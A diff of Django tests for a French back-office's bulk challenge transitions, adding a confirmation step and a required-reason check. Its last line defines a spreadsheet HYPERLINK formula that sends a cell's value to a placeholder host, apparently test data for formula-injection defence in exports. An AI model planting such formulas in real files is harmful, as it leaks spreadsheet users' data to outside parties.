@@ -15,6 +15,7 @@ from lifecycle.models import AuditEvent, Challenge
 from notifications.enums import DeliveryStatus
 from notifications.models import Notification
 from tests.factories import AdministrationFactory, ChallengeFactory, PromotionFactory
+from tests.html_forms import form_data
 
 PARIS = ZoneInfo("Europe/Paris")
 S = ChallengeState
@@ -213,17 +214,15 @@ def test_bulk_transition_moves_each_row_audits_it_and_reports_refusals(manager_c
     running = ChallengeFactory(promotion=promotion, state=S.RUNNING, name="Charlie")
     back = f"{URL}?state=submitted"
 
-    response = manager_client.post(
+    confirmation = manager_client.post(
         reverse("backoffice:bulk_transition"),
-        {
-            "transition": "preselect",
-            "reason": "Comité du 2 juillet",
-            "hold_mail": "1",
-            "challenges": [first.pk, second.pk, running.pk],
-            "next": back,
-        },
-        follow=True,
+        {"transition": "preselect", "challenges": [first.pk, second.pk, running.pk], "next": back},
     )
+    assert confirmation.status_code == 200  # the confirmation step: nothing moved yet
+    assert not AuditEvent.objects.filter(kind=AuditKind.TRANSITION).exists()
+    data = form_data(confirmation.content.decode(), "bulk-confirm")
+    data.update(reason="Comité du 2 juillet", hold_mail="1", confirm="1")
+    response = manager_client.post(reverse("backoffice:bulk_transition"), data, follow=True)
 
     assert response.redirect_chain == [(back, 302)]
     html = response.content.decode()
@@ -242,14 +241,15 @@ def test_bulk_transition_moves_each_row_audits_it_and_reports_refusals(manager_c
     assert set(mails.values_list("status", flat=True)) == {DeliveryStatus.HELD}
 
 
-def test_bulk_transition_without_a_reason_is_refused_per_row(manager_client, db):
+def test_bulk_transition_without_a_reason_moves_nothing_and_says_why(manager_client, db):
     challenge = ChallengeFactory(state=S.SUBMITTED, name="Delta", dossier_rows=False)
     response = manager_client.post(
         reverse("backoffice:bulk_transition"),
-        {"transition": "reject", "reason": " ", "challenges": [challenge.pk]},
-        follow=True,
+        {"transition": "reject", "reason": " ", "challenges": challenge.pk, "step": "confirm", "confirm": 1},
     )
-    assert "« Delta » : Cette décision doit être motivée : indiquez un motif." in response.content.decode()
+    html = response.content.decode()
+    assert "Indiquez le motif de la décision : il est obligatoire pour cette action." in html
+    assert "« Ne pas présélectionner » n’a pas été effectué : rien n’a changé." in html
     challenge.refresh_from_db()
     assert challenge.state == S.SUBMITTED
 
@@ -272,7 +272,9 @@ def test_the_bulk_form_is_on_the_list(manager_client, cases):
     bases = cases["Bases adresses"].pk
     assert f'<input type="checkbox" name="challenges" value="{bases}" id="select-{bases}">' in html
     assert '<select class="fr-select" id="bulk-transition" name="transition" required>' in html
-    assert '<label class="fr-label" for="bulk-hold-mail">Retenir les e-mails pour relecture</label>' in html
+    # The reason and the hold option are asked on the confirmation page, once the action is known.
+    assert 'for="select-page">Tout sélectionner sur cette page</label>' in html
+    assert "Appliquer aux 4 défis qui correspondent au filtre, sur toutes les pages, cochés ou non" in html
 
 
 FORMULA = '=HYPERLINK("http://exemple.invalid/vol?"&A1,"Cliquez")'
